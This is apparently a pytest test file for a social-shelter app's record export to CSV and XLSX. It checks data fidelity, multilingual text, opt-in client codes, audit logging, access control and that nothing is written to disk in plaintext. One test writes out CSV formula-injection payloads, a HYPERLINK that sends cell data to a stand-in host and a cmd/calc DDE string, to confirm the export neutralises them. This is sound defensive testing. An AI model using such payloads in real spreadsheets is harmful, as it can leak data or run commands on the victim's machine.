"""Export of one instrument's records as CSV and XLSX: the cells equal the records field by field, repeating
groups included; Cyrillic survives; client codes only when asked for; every export is audited; 403/404/400."""
from __future__ import annotations

import copy
import csv
import io
import json
import os
import sys
import tempfile
import uuid
import zipfile

import pytest
from openpyxl import load_workbook

from app.config import PROJECT_ROOT
from app.services import data_export

EXAMPLE = json.loads((PROJECT_ROOT / "tests" / "forms" / "examples" / "overzicht-3.json").read_text())["valid"]
CODE = "КОД-Ж-17"  # the client code: Cyrillic, and secret unless asked for
CYRILLIC = "Леля ѝ Мария помага с жилище"  # in a repeat row
YORUBA = "Ọmọ́ ẹ̀gbọ́n"


@pytest.fixture
def shelter(fast_passwords, app, make_user, login):
    make_user("anna@shelter-a.nl")
    make_user("carla@shelter-a.nl", role="coordinator")
    make_user("bram@shelter-b.nl", org="shelter-b", role="coordinator")
    anna = login("anna@shelter-a.nl")
    case_id = anna.new_case(country="BG", code=CODE)
    first = copy.deepcopy(EXAMPLE)
    first["support"]["family"] = [{"who": CYRILLIC, "with_what": YORUBA}, {"who": "Brother", "with_what": "Money"}]
    second = copy.deepcopy(EXAMPLE)
    second["support"]["family"] = []
    second["written_in"] = "bg"
    ids = []
    for data, status in ((first, "final"), (second, "draft")):
        record_id = str(uuid.uuid4())
        r = anna.put(f"/api/v1/records/{record_id}", {"case_id": case_id, "form_id": "overzicht-3",
                                                      "form_version": 1, "status": status, "data": data})
        assert r.status_code == 201, r.json
        ids.append(record_id)
    return {"app": app, "carla": login("carla@shelter-a.nl"), "anna": anna, "case": case_id, "ids": ids,
            "records": {rid: anna.get(f"/api/v1/records/{rid}").json for rid in ids}}


def _get(data, pointer: str):
    for part in pointer.strip("/").split("/"):
        data = data.get(part) if isinstance(data, dict) else None
    return data


def _expected(value):
    if value is None:
        return None
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "; ".join(value)
    return value


def test_xlsx_cells_equal_the_records_field_by_field_repeats_included(shelter):
    r = shelter["carla"].get("/api/v1/exports/overzicht-3?format=xlsx&lang=en&labels=codes")
    assert r.status_code == 200
    assert r.mimetype == data_export.XLSX_TYPE
    assert r.headers["Content-Disposition"].startswith('attachment; filename="overzicht-3_')
    book = load_workbook(io.BytesIO(r.data))
    rows = list(book["records"].iter_rows(values_only=True))
    pointers, labels, body = rows[0], rows[1], rows[2:]
    assert pointers[:6] == ("record_id", "case_id", "status", "form_version", "saved_at", "saved_by_org")
    assert "client_code" not in pointers
    assert labels[:3] == ("Record", "Case number", "Status")
    assert sorted(row[0] for row in body) == sorted(shelter["ids"])
    checked = 0
    for row in body:
        record = shelter["records"][row[0]]
        assert row[1:6] == (shelter["case"], record["status"], 1, record["saved_at"], "shelter-a")
        for pointer, cell in zip(pointers[6:], row[6:]):
            assert cell == _expected(_get(record["data"], pointer)), pointer
            checked += 1
    assert checked > 50
    family = list(book["support.family"].iter_rows(values_only=True))
    assert family[0] == ("record_id", "row", "/support/family/*/who", "/support/family/*/with_what")
    assert family[2:] == [(shelter["ids"][0], "1", CYRILLIC, YORUBA), (shelter["ids"][0], "2", "Brother", "Money")]
    friends = list(book["support.friends"].iter_rows(values_only=True))[2:]
    assert friends == [(rid, "1", "School friend", "Company, child care now and then") for rid in shelter["ids"]]
    assert CODE.encode() not in r.data


def test_csv_round_trips_with_cyrillic_intact_and_repeats_in_their_own_files(shelter):
    r = shelter["carla"].get("/api/v1/exports/overzicht-3?format=csv&lang=bg&labels=labels")
    assert r.status_code == 200 and r.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(r.data))
    assert "overzicht-3.csv" in archive.namelist() and "overzicht-3.support.family.csv" in archive.namelist()
    raw = archive.read("overzicht-3.support.family.csv")
    assert raw.startswith("\ufeff".encode("utf-8"))  # the BOM: Excel opens Cyrillic and tone marks correctly
    family = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert family[2:] == [[shelter["ids"][0], "1", CYRILLIC, YORUBA], [shelter["ids"][0], "2", "Brother", "Money"]]
    main = list(csv.reader(io.StringIO(archive.read("overzicht-3.csv").decode("utf-8-sig"))))
    pointers, labels = main[0], main[1]
    assert labels[pointers.index("status")] == "Статус"
    statuses = {row[0]: row[pointers.index("status")] for row in main[2:]}
    assert statuses == {shelter["ids"][0]: "Окончателен", shelter["ids"][1]: "Чернова"}
    written = {row[0]: row[pointers.index("/written_in")] for row in main[2:]}
    assert written[shelter["ids"][1]] not in ("bg", "")  # a choice as its label in the chosen language
    assert CODE not in r.data.decode("latin-1") and CODE.encode() not in b"".join(
        archive.read(name) for name in archive.namelist())


def test_a_form_without_repeating_groups_is_one_csv_file(shelter):
    anna, carla = shelter["anna"], shelter["carla"]
    r = anna.put(f"/api/v1/records/{uuid.uuid4()}", {"case_id": shelter["case"], "form_id": "overzicht-1",
                                                      "form_version": 1, "status": "draft",
                                                      "data": {"status": "b8_3", "nl": {"f1": {"score": "++"}}}})
    assert r.status_code == 201
    r = carla.get("/api/v1/exports/overzicht-1?format=csv&lang=nl&labels=codes")
    assert r.mimetype == "text/csv" and r.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert len(rows) == 3
    record = dict(zip(rows[0], rows[2]))
    assert record["/nl/f1/score"] == "++" and record["/totals/total_plus"] == "2"  # computed totals included


def test_client_codes_only_when_asked_and_the_audit_trail_says_so(shelter):
    c = shelter["app"].extensions["safefuture"]
    carla = shelter["carla"]
    before = len(c.store.audit_events())
    without = carla.get("/api/v1/exports/overzicht-3?format=xlsx&lang=nl")
    with_codes = carla.get("/api/v1/exports/overzicht-3?format=xlsx&lang=nl&client_codes=1&from=2000-01-01")
    assert CODE not in json.dumps([list(r) for r in load_workbook(io.BytesIO(without.data))["records"].values])
    rows = list(load_workbook(io.BytesIO(with_codes.data))["records"].iter_rows(values_only=True))
    assert rows[0][2] == "client_code" and {row[2] for row in rows[2:]} == {CODE}
    events = c.store.audit_events()[before:]
    assert [e.action for e in events] == ["export_data", "export_data"]
    assert all(e.actor_id == carla.user["id"] and e.details["form_id"] == "overzicht-3" for e in events)
    assert [e.details["client_codes"] for e in events] == [False, True]
    assert "client_code" not in events[0].details["columns"] and "client_code" in events[1].details["columns"]
    assert "/support/family/*/who" in events[0].details["columns"]
    assert events[1].details["from"] == "2000-01-01" and events[1].details["format"] == "xlsx"
    assert CODE not in json.dumps([e.to_dict() for e in events])


def test_the_period_filters_by_the_day_last_saved(shelter):
    carla = shelter["carla"]
    today = shelter["records"][shelter["ids"][0]]["saved_at"][:10]
    inside = carla.get(f"/api/v1/exports/overzicht-3?format=xlsx&lang=en&from={today}&to={today}")
    outside = carla.get("/api/v1/exports/overzicht-3?format=xlsx&lang=en&to=2000-01-01")
    assert len(list(load_workbook(io.BytesIO(inside.data))["records"].values)) == 4
    assert len(list(load_workbook(io.BytesIO(outside.data))["records"].values)) == 2  # the header rows only


def test_another_organisation_exports_none_of_these_records(shelter, login):
    r = login("bram@shelter-b.nl").get("/api/v1/exports/overzicht-3?format=csv&lang=en")
    assert r.status_code == 200
    assert not any(rid.encode() in r.data for rid in shelter["ids"])


def test_an_unknown_form_is_404(shelter):
    r = shelter["carla"].get("/api/v1/exports/no-such-form?format=csv&lang=en")
    assert r.status_code == 404 and r.json["error"] == "not_found"


def test_a_counsellor_gets_403_even_for_an_unknown_form(shelter):
    assert shelter["anna"].get("/api/v1/exports/overzicht-3?format=csv&lang=en").status_code == 403
    assert shelter["anna"].get("/api/v1/exports/no-such-form?format=csv&lang=en").status_code == 403


@pytest.mark.parametrize("query, param", [
    ("lang=en", "format"), ("format=ods&lang=en", "format"), ("format=csv", "lang"), ("format=csv&lang=fr", "lang"),
    ("format=csv&lang=en&labels=names", "labels"), ("format=csv&lang=en&client_codes=yes", "client_codes"),
    ("format=csv&lang=en&from=2026-02-30", "from"), ("format=csv&lang=en&to=soon", "to"),
    ("format=csv&lang=en&from=2026-02-01&to=2026-01-01", "from")])
def test_a_bad_parameter_is_400_naming_it_and_audits_nothing(shelter, query, param):
    c = shelter["app"].extensions["safefuture"]
    before = len(c.store.audit_events())
    r = shelter["carla"].get(f"/api/v1/exports/overzicht-3?{query}", headers={"Accept-Language": "bg"})
    assert r.status_code == 400, r.json
    assert r.json["path"] == param and param in r.json["message"]
    assert len(c.store.audit_events()) == before


def test_a_group_inside_a_group_is_keyed_by_its_parents_row_and_choices_come_as_labels(shelter):
    plan = {"goals": [{"goal": "Папка документи", "kind": "residence_permit", "actions": [
                          {"what": "Call the lawyer", "done": True}, {"what": "Писмо", "done": False}]},
                      {"goal": "Second goal", "actions": [{"what": "Visit"}]}]}
    record_id = str(uuid.uuid4())
    r = shelter["anna"].put(f"/api/v1/records/{record_id}", {"case_id": shelter["case"],
                                                             "form_id": "short-term-action-plan", "form_version": 1,
                                                             "status": "draft", "data": plan})
    assert r.status_code == 201, r.json
    book = load_workbook(io.BytesIO(shelter["carla"].get(
        "/api/v1/exports/short-term-action-plan?format=xlsx&lang=en&labels=labels").data))
    goals = list(book["goals"].iter_rows(values_only=True))
    assert goals[0][:4] == ("record_id", "row", "/goals/*/goal", "/goals/*/kind")
    assert [row[:4] for row in goals[2:]] == [(record_id, "1", "Папка документи", "Applying for an (independent) residence permit"),
                                             (record_id, "2", "Second goal", None)]
    actions = list(book["goals.actions"].iter_rows(values_only=True))
    assert actions[0][:3] == ("record_id", "row", "/goals/*/actions/*/what")
    done = actions[0].index("/goals/*/actions/*/done")
    assert [(row[1], row[2], row[done]) for row in actions[2:]] == [
        ("1.1", "Call the lawyer", "true"), ("1.2", "Писмо", "false"), ("2.1", "Visit", None)]


_OPENED_FOR_WRITING: list[tuple[str, bool]] | None = None  # filled while an export is watched
_IN_SPOOL = [False]  # true while a sealed spool makes its temporary file


def _watch_opens(event: str, args) -> None:
    """Python's audit hook: every open() and os.open() of the process, with its mode or flags."""
    if _OPENED_FOR_WRITING is None or event != "open":
        return
    path, mode, flags = args
    writes = any(m in mode for m in "wax+") if isinstance(mode, str) else bool(
        flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | getattr(os, "O_TMPFILE", 0)))
    if writes and not isinstance(path, int):  # an int is a file descriptor opened before: not a new file
        _OPENED_FOR_WRITING.append((str(path), _IN_SPOOL[0]))


sys.addaudithook(_watch_opens)  # cannot be removed; costs a test of one variable while nobody watches


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_plaintext_export_data_touches_the_disk(shelter, fmt, monkeypatch):
    """While an export streams, the only files opened for writing outside the store are the sealed spools' own
    temporary files, and nothing of the records is readable in what is written to them."""
    global _OPENED_FOR_WRITING
    spools, written = [], []
    real = tempfile.TemporaryFile

    class Recorded:
        def __init__(self, file):
            self._file = file

        def write(self, data):
            written.append(data.encode() if isinstance(data, str) else bytes(data))
            return self._file.write(data)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self._file.close()

        def __getattr__(self, name):
            return getattr(self._file, name)

    def temporary_file(*args, **kwargs):
        spools.append(1)
        _IN_SPOOL[0] = True
        try:
            return Recorded(real(*args, **kwargs))
        finally:
            _IN_SPOOL[0] = False

    monkeypatch.setattr(tempfile, "TemporaryFile", temporary_file)
    data_dir = str(shelter["app"].config["DATA_DIR"])
    _OPENED_FOR_WRITING = []
    try:
        r = shelter["carla"].get(f"/api/v1/exports/overzicht-3?format={fmt}&lang=bg&labels=labels&client_codes=1")
        body = r.data  # the whole streamed body
    finally:
        opened, _OPENED_FOR_WRITING = _OPENED_FOR_WRITING, None
    assert r.status_code == 200
    assert CYRILLIC.encode() in (zipfile.ZipFile(io.BytesIO(body)).read(
        "overzicht-3.support.family.csv" if fmt == "csv" else "xl/worksheets/sheet2.xml"))  # the repeat came out
    assert len(spools) >= 5  # one per repeating group
    assert [path for path, by_spool in opened if not by_spool and not path.startswith(data_dir)] == []
    on_disk = b"".join(written)
    assert len(on_disk) > 1000  # the repeating groups' rows went through the spools
    for secret in (CYRILLIC, YORUBA, CODE, "Brother", "School friend", *shelter["ids"], shelter["case"]):
        assert secret.encode() not in on_disk, secret


def test_genogram_links_name_the_people_and_ids_that_only_link_rows_are_left_out(shelter):
    """The analyst sees who, not internal ids like "mother": a link to a person is their name (or "#row" without
    one), as in the app and the printouts; the row ids and the ecogram's link to the genogram are not exported."""
    anna, carla = shelter["anna"], shelter["carla"]
    genogram = {"persons": [{"id": "p1", "name": "Мария", "relation": "mother"},
                            {"id": "p2", "relation": "brother", "parents": ["p1"]},
                            {"id": "p3", "name": "Ọmọ́", "relation": "client", "parents": ["p1"]}],
                "client": "p3", "partners": [], "relations": [{"from": "p1", "to": "p2", "kind": "conflict"}],
                "events": [{"kind": "move", "persons": ["p1", "p3"]}]}
    ecogram = {"contacts": [{"genogram_person": "p1", "name": "Мария", "category": "family"}]}
    for form_id, version, data in (("genogram", 2, genogram), ("ecogram", 2, ecogram)):
        r = anna.put(f"/api/v1/records/{uuid.uuid4()}", {"case_id": shelter["case"], "form_id": form_id,
                                                          "form_version": version, "status": "draft", "data": data})
        assert r.status_code == 201, r.json
    book = load_workbook(io.BytesIO(carla.get("/api/v1/exports/genogram?format=xlsx&lang=en&labels=labels").data))
    main = list(book["records"].iter_rows(values_only=True))
    assert main[2][main[0].index("/client")] == "Ọmọ́"
    persons = list(book["persons"].iter_rows(values_only=True))
    assert "/persons/*/id" not in persons[0]
    assert [(row[persons[0].index("/persons/*/name")], row[persons[0].index("/persons/*/parents")])
            for row in persons[2:]] == [("Мария", None), (None, "Мария"), ("Ọmọ́", "Мария")]
    relations = list(book["relations"].iter_rows(values_only=True))
    assert relations[2][2:4] == ("Мария", "#2")
    events = list(book["events"].iter_rows(values_only=True))
    assert events[2][events[0].index("/events/*/persons")] == "Мария; Ọmọ́"
    cells = {cell for sheet in book.worksheets for row in sheet.iter_rows(min_row=3, values_only=True) for cell in row}
    assert not cells & {"p1", "p2", "p3"}
    contacts = list(load_workbook(io.BytesIO(carla.get("/api/v1/exports/ecogram?format=xlsx&lang=en").data))[
        "contacts"].iter_rows(values_only=True))
    assert "/contacts/*/genogram_person" not in contacts[0] and contacts[2][2] == "Мария"
    assert "p1" not in contacts[2]


def test_a_typed_formula_reaches_a_spreadsheet_as_text_and_scores_as_they_are(shelter):
    formula, command = '=HYPERLINK("http://example.invalid/?q="&A1,"open")', "-2+3+cmd|' /C calc'!A0"
    data = copy.deepcopy(EXAMPLE)
    data["support"]["family"] = [{"who": formula, "with_what": command}]
    record_id = str(uuid.uuid4())
    r = shelter["anna"].put(f"/api/v1/records/{record_id}", {"case_id": shelter["case"], "form_id": "overzicht-3",
                                                             "form_version": 1, "status": "draft", "data": data})
    assert r.status_code == 201, r.json
    r = shelter["carla"].get("/api/v1/exports/overzicht-3?format=csv&lang=en&labels=codes")
    assert r.status_code == 200, r.data[:300]
    archive = zipfile.ZipFile(io.BytesIO(r.data))
    family = list(csv.reader(io.StringIO(archive.read("overzicht-3.support.family.csv").decode("utf-8-sig"))))
    assert [record_id, "1", "'" + formula, "'" + command] in family
    # In the XLSX every text is a text cell already: the answer stays exactly as typed.
    book = load_workbook(io.BytesIO(shelter["carla"].get("/api/v1/exports/overzicht-3?format=xlsx&lang=en&labels=codes").data))
    cells = [[c.value for c in row] for sheet in book.worksheets for row in sheet.iter_rows()]
    assert any(formula in row and command in row for row in cells)

    # The Overzicht 1 scores are signs, and answers: they are not marked.
    r = shelter["anna"].put(f"/api/v1/records/{uuid.uuid4()}", {
        "case_id": shelter["case"], "form_id": "overzicht-1", "form_version": 1, "status": "draft",
        "data": {"status": "b8_3", "nl": {"f1": {"score": "--"}, "f2": {"score": "+"}}}})
    assert r.status_code == 201, r.json
    rows = list(csv.reader(io.StringIO(shelter["carla"].get(
        "/api/v1/exports/overzicht-1?format=csv&lang=en&labels=codes").data.decode("utf-8-sig"))))
    record = dict(zip(rows[0], rows[2]))
    assert (record["/nl/f1/score"], record["/nl/f2/score"]) == ("--", "+")
